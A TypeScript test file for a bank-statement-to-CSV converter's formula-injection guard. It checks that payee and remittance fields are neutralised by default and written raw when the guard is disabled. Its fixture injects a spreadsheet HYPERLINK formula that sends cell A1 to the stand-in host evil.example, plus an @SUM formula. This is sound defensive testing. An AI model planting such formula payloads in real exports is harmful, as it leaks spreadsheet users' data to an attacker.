import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { FIXTURES, runCli, tempDir } from './run-cli';

// The rent debit of the fixture, with a payee and remittance text that a spreadsheet would run.
let hostile = '';
beforeAll(() => {
  hostile = join(tempDir(), 'hostile.xml');
  const xml = readFileSync(join(FIXTURES, 'two-statements.camt053.xml'), 'utf8')
    .replace('Landlord AG', '=HYPERLINK("http://evil.example/?"&amp;A1,"Landlord")')
    .replace('Rent March', '@SUM(A1:A9)');
  writeFileSync(hostile, xml);
});

const rentRow = (stdout: string): string | undefined => stdout.split('\n').find((line) => line.includes('-120.50'));

describe('stmt convert formula guard', () => {
  it('neutralises formula-leading payer and remittance text by default, amounts untouched', () => {
    const run = runCli(['convert', '-i', hostile, '-o', '-', '--no-categorize', '--preset', 'minimal']);
    expect(run.status).toBe(0);
    expect(rentRow(run.stdout)).toBe(
      `2024-03-05,-120.50,CHF,"'=HYPERLINK(""http://evil.example/?""&A1,""Landlord"")",'@SUM(A1:A9),`,
    );
  });

  it('writes raw text with --no-formula-guard or csv.formula_guard: false, and --formula-guard wins over the config', () => {
    const raw = `2024-03-05,-120.50,CHF,"=HYPERLINK(""http://evil.example/?""&A1,""Landlord"")",@SUM(A1:A9),`;
    const flagged = runCli([
      'convert',
      '-i',
      hostile,
      '-o',
      '-',
      '--no-categorize',
      '--preset',
      'minimal',
      '--no-formula-guard',
    ]);
    expect(rentRow(flagged.stdout)).toBe(raw);
    const configHome = tempDir();
    mkdirSync(join(configHome, 'stmt'));
    writeFileSync(join(configHome, 'stmt', 'config.yaml'), 'csv:\n  formula_guard: false\n');
    const configured = runCli(['convert', '-i', hostile, '-o', '-', '--no-categorize', '--preset', 'minimal'], {
      configHome,
    });
    expect(rentRow(configured.stdout)).toBe(raw);
    const overridden = runCli(
      ['convert', '-i', hostile, '-o', '-', '--no-categorize', '--preset', 'minimal', '--formula-guard'],
      { configHome },
    );
    expect(rentRow(overridden.stdout)).toContain(`"'=HYPERLINK(`);
  });

  it('guards the camt-csv-standard preset through the same mechanism', () => {
    const run = runCli(['convert', '-i', hostile, '-o', '-', '--no-categorize', '--preset', 'camt-csv-standard']);
    expect(run.stdout).toContain(`,'@SUM(A1:A9),'@SUM(A1:A9),120.50,DBIT,CHF,`);
    const raw = runCli([
      'convert',
      '-i',
      hostile,
      '-o',
      '-',
      '--no-categorize',
      '--preset',
      'camt-csv-standard',
      '--no-formula-guard',
    ]);
    expect(raw.stdout).toContain(',@SUM(A1:A9),@SUM(A1:A9),120.50,DBIT,CHF,');
  });
});
